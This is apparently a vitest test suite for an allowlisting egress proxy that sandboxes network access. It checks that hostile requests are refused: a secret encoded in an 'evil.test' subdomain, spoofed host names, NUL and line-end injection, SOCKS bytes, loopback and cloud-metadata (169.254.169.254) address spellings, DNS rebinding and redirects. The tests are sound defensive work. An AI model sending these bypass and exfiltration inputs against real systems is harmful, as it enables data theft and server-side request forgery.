import { execFile } from "node:child_process";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { existsSync, statSync } from "node:fs";
import { type IncomingMessage, request as httpRequest } from "node:http";
import { connect } from "node:net";
import { dirname } from "node:path";
import { buffer, text } from "node:stream/consumers";
import { promisify } from "node:util";
import { ClawError } from "@claw/kernel";
import { describe, expect, test } from "vitest";
import { startProxy } from "../src/proxy.ts";
import { proxyWorld, type ProxyWorld } from "./proxy-world.ts";

const run = promisify(execFile);
const curl = async (world: ProxyWorld, ...args: readonly string[]): Promise<string> => {
  const proxy = `http://claw:${world.proxy.token}@127.0.0.1:${await world.bridge()}`;
  return (await run("curl", ["-sS", "--noproxy", "", "--proxy", proxy, "-w", "%{http_code}", ...args])).stdout;
};

describe("an allowed host", () => {
  test("is reached by curl, as a plain request and through a tunnel", async () => {
    await using world = await proxyWorld(["allowed.test:WEB"]);
    expect(await curl(world, `http://allowed.test:${world.web}/a?b`)).toBe("hello200");
    expect(await curl(world, "--proxytunnel", `http://allowed.test:${world.web}/c`)).toBe("hello200");
    expect(world.seen.map(({ url, headers }) => [url, headers.host])).toEqual([
      ["/a?b", `allowed.test:${world.web}`],
      ["/c", `allowed.test:${world.web}`],
    ]);
    expect(world.decisions).toEqual([1, 2].map(() => ({ host: "allowed.test", port: world.web, allowed: true, why: "an allowed host" })));
    expect(world.proxy.denials()).toEqual([]);
  });

  test("is reached by Node's own fetch and http with the proxy in the environment", async () => {
    await using world = await proxyWorld(["*.allowed.test:WEB"]);
    const proxy = `http://claw:${world.proxy.token}@127.0.0.1:${await world.bridge()}`;
    const url = `http://docs.allowed.test:${world.web}/`;
    const script = `const one = await (await fetch(${JSON.stringify(url)}, { method: "POST", body: "x".repeat(100000) })).text();
      const http = await import("node:http"); http.get(${JSON.stringify(url)}, (r) => { r.setEncoding("utf8"); r.on("data", (two) => console.log(one, two)); });`;
    const { stdout } = await run(process.execPath, ["--input-type=module", "-e", script], { env: { NODE_USE_ENV_PROXY: "1", HTTP_PROXY: proxy } });
    expect(stdout.trim()).toBe("hello hello");
    expect(world.seen.map(({ method }) => method)).toEqual(["POST", "GET"]);
  });

  test("gets the body, big and in chunks, and its answer comes back whole", async () => {
    const sizes: number[] = [];
    await using world = await proxyWorld(["allowed.test:WEB"], async (request, response) => {
      const body = await buffer(request);
      sizes.push(body.length);
      response.end(body);
    });
    const body = randomBytes(8_000_000);
    for (const headers of [{ "content-length": body.length }, { "transfer-encoding": "chunked" }]) {
      const answer = await asked(world, { method: "PUT", path: `http://allowed.test:${world.web}/`, headers }, body);
      expect((await buffer(answer)).equals(body)).toBe(true);
    }
    expect(sizes).toEqual([body.length, body.length]);
  });

  test("may say its end while the other side still speaks", async () => {
    await using world = await proxyWorld(["allowed.test:ECHO"]);
    const answer = await world.raw(`CONNECT allowed.test:${world.echo} HTTP/1.1\r\nHost: x\r\n${world.credentials}\r\nearly bytes`, { end: true });
    expect(answer).toBe("HTTP/1.1 200 Connection established\r\n\r\nearly bytes");
  });

  test("is asked for on one kept connection, and each request is checked anew", async () => {
    await using world = await proxyWorld(["allowed.test:WEB"]);
    const one = (host: string): string => `GET http://${host}:${world.web}/ HTTP/1.1\r\nHost: ${host}\r\n${world.credentials}\r\n`;
    const answer = await world.raw(one("allowed.test") + one("evil.test") + one("allowed.test").replace("Host:", "Connection: close\r\nHost:"));
    expect([...answer.matchAll(/HTTP\/1\.1 (\d+)/g)].map(([, code]) => code)).toEqual(["200", "403", "200"]);
    expect(world.seen).toHaveLength(2);
  });
});

describe("a host that is not allowed", () => {
  test("attack 61: is not even looked up, so that no secret leaves in its name", async () => {
    await using world = await proxyWorld(["allowed.test:WEB"]);
    expect(await curl(world, "http://c2VjcmV0.evil.test/")).toBe("claw: c2vjcmv0.evil.test is not an allowed host\n403");
    await expect(curl(world, "https://c2VjcmV0.evil.test/")).rejects.toThrow(/403/);
    expect(world.lookups).toEqual([]);
    expect(world.proxy.denials()).toEqual(
      [80, 443].map((port) => ({ type: "host", what: `c2vjcmv0.evil.test:${port}`, why: "c2vjcmv0.evil.test is not an allowed host" })),
    );
  });

  test("attack 62: is not taken for another by how its name begins or by who is named before an @", async () => {
    await using world = await proxyWorld(["docs.allowed.test", "*.allowed.test"]);
    for (const host of ["docs.allowed.test.evil.test", "evildocs.allowed.test.evil", "evilallowed.test", "allowed.test"]) {
      expect(await status(world, `CONNECT ${host}:443`)).toBe(403);
      expect(await status(world, `GET http://${host}/`)).toBe(403);
    }
    for (const authority of ["docs.allowed.test@evil.test", "docs.allowed.test:80@evil.test", "evil.test#docs.allowed.test", "evil.test\\.allowed.test"]) {
      expect(await status(world, `CONNECT ${authority}:443`)).toBe(400);
      expect(await status(world, `GET http://${authority}/`)).toBe(400);
    }
    expect(world.lookups).toEqual([]);
  });

  test("attack 63: does not hide behind a NUL, a line end or another sign that ends its name elsewhere", async () => {
    await using world = await proxyWorld(["*.allowed.test"]);
    for (const sign of ["\0", "\r", "\n", "\t", " ", "%00", "%2e", "\x7f", "\xff", "\u00ad", ";", ",", "/"]) {
      const host = `evil.test${sign}.allowed.test`;
      expect([400, 403]).toContain(await status(world, `CONNECT ${host}:443`));
      expect([400, 403]).toContain(await status(world, `GET http://${host}/`));
    }
    expect(world.lookups).toEqual([]);
    expect(world.seen).toEqual([]);
  });

  test("attack 64: meets the same check in plain requests, in tunnels and in bytes of SOCKS", async () => {
    await using world = await proxyWorld(["allowed.test"]);
    expect(await status(world, "CONNECT evil.test:443")).toBe(403);
    expect(await status(world, "GET http://evil.test/")).toBe(403);
    const socks5 = Buffer.from([5, 1, 0, 5, 1, 0, 3, 9, ...Buffer.from("evil.test"), 1, 187]);
    const socks4 = Buffer.from([4, 1, 1, 187, 0, 0, 0, 1, 0, ...Buffer.from("evil.test\0")]);
    for (const bytes of [socks5, socks4]) expect(await world.raw(bytes)).toMatch(/^HTTP\/1\.1 400 /);
    expect(world.lookups).toEqual([]);
    expect(world.decisions.map(({ allowed }) => allowed)).toEqual([false, false, false, false]);
  });

  test("attack 68: is no address in any spelling, and no name that leads near", async () => {
    await using world = await proxyWorld(["rebound.test", "inside.test", "*.test"]);
    for (const host of [
      "127.0.0.1",
      "2130706433",
      "0x7f000001",
      "0x7f.1",
      "0177.0.0.1",
      "127.1",
      "[::1]",
      "[::ffff:127.0.0.1]",
      "169.254.169.254",
      "localhost",
    ]) {
      expect([400, 403]).toContain(await status(world, `CONNECT ${host}:443`));
      expect([400, 403]).toContain(await status(world, `GET http://${host}/`));
    }
    expect(world.lookups).toEqual([]);
    expect(await status(world, "CONNECT rebound.test:443")).toBe(403);
    expect(await status(world, "GET http://inside.test/")).toBe(403);
    expect(world.decisions.at(-2)?.why).toContain("169.254.169.254, which is not on the public internet");
  });

  test("is looked up once: what it leads to later is never asked", async () => {
    let answers = 0;
    await using proxy = await startProxy({
      hosts: ["turncoat.test"],
      lookup: async () => (answers++ === 0 ? ["127.0.0.9"] : ["8.8.8.8"]),
      log: () => undefined,
    });
    const socket = connect(proxy.socket);
    socket.write(`CONNECT turncoat.test:443 HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic ${btoa(`claw:${proxy.token}`)}\r\n\r\n`);
    expect(await text(socket)).toMatch(/^HTTP\/1\.1 403 /);
    expect(answers).toBe(1);
  });

  test("has a redirect to it followed by the client alone, through the check", async () => {
    await using world = await proxyWorld(
      ["allowed.test:WEB"],
      (_request, response) => void response.writeHead(302, { location: "http://169.254.169.254/" }).end(),
    );
    expect(await curl(world, "-L", `http://allowed.test:${world.web}/`)).toBe("claw: 169.254.169.254 is not an allowed host\n403");
  });

  test("is told apart from a port that is not", async () => {
    await using world = await proxyWorld(["allowed.test"]);
    expect(await world.raw(`GET http://allowed.test:22/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${world.credentials}\r\n`)).toContain(
      "allowed.test is allowed on port 443 and 80 only, not on 22",
    );
  });
});

describe("the proxy", () => {
  test("serves nobody without the token of this run, and does not say what it would allow", async () => {
    await using world = await proxyWorld(["allowed.test"]);
    const wrong = [
      "",
      "Basic",
      `Basic ${btoa("claw:")}`,
      `Basic ${btoa(`root:${world.proxy.token}`)}`,
      `Basic ${btoa(`claw:${world.proxy.token}x`)}`,
      `Bearer ${world.proxy.token}`,
    ];
    for (const value of wrong) {
      const header = value === "" ? "" : `Proxy-Authorization: ${value}\r\n`;
      for (const host of ["allowed.test", "evil.test"]) {
        expect(await world.raw(`CONNECT ${host}:443 HTTP/1.1\r\nHost: x\r\n${header}\r\n`)).toMatch(/^HTTP\/1\.1 407 [^]*Proxy-Authenticate: Basic/);
        expect(await world.raw(`GET http://${host}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${header}\r\n`)).toMatch(
          /^HTTP\/1\.1 407 [^]*Proxy-Authenticate: Basic/,
        );
      }
    }
    expect(world.lookups).toEqual([]);
    expect(world.proxy.denials()).toEqual([]);
  });

  test("has its socket in a folder of its own, for this user alone, and leaves nothing of it", async () => {
    const world = await proxyWorld([]);
    const { socket } = world.proxy;
    expect([statSync(socket), statSync(dirname(socket))].map(({ mode }) => (mode & 0o777).toString(8))).toEqual(["600", "700"]);
    await world[Symbol.asyncDispose]();
    expect(existsSync(dirname(socket))).toBe(false);
  });

  test("refuses to start with a host that it cannot read", async () => {
    for (const host of ["*", "https://a.com", "a.com/", "0x7f.1"]) {
      const failure = await startProxy({ hosts: [host], log: () => undefined }).catch((error: unknown) => error);
      expect(ClawError.is(failure, "SANDBOX_FAILED")).toBe(true);
    }
  });

  test("ends what it has open when it ends", async () => {
    const world = await proxyWorld(["allowed.test:ECHO"]);
    const socket = connect(world.proxy.socket);
    socket.write(`CONNECT allowed.test:${world.echo} HTTP/1.1\r\nHost: x\r\n${world.credentials}\r\n`);
    await once(socket, "data");
    await world[Symbol.asyncDispose]();
    if (!socket.closed) await once(socket, "close");
  });

  test("remembers what it refused up to a bound", async () => {
    await using world = await proxyWorld([]);
    const asks = Array.from(
      { length: 100 },
      (_, index) => `GET http://h${index}.evil.test/ HTTP/1.1\r\nHost: x\r\n${index === 99 ? "Connection: close\r\n" : ""}${world.credentials}\r\n`,
    );
    await world.raw(asks.join(""));
    expect(world.decisions).toHaveLength(100);
    expect(world.proxy.denials()).toHaveLength(64);
  });
});

async function status(world: ProxyWorld, line: string): Promise<number> {
  const answer = await world.raw(Buffer.from(`${line} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${world.credentials}\r\n`, "latin1"));
  return Number(/^HTTP\/1\.1 (\d{3}) /.exec(answer)?.[1]);
}

async function asked(world: ProxyWorld, options: object, body: Uint8Array): Promise<IncomingMessage> {
  const request = httpRequest({ ...options, socketPath: world.proxy.socket, auth: undefined, setHost: true });
  request.setHeader("proxy-authorization", `Basic ${btoa(`claw:${world.proxy.token}`)}`);
  request.end(body);
  return ((await once(request, "response")) as [IncomingMessage])[0];
}
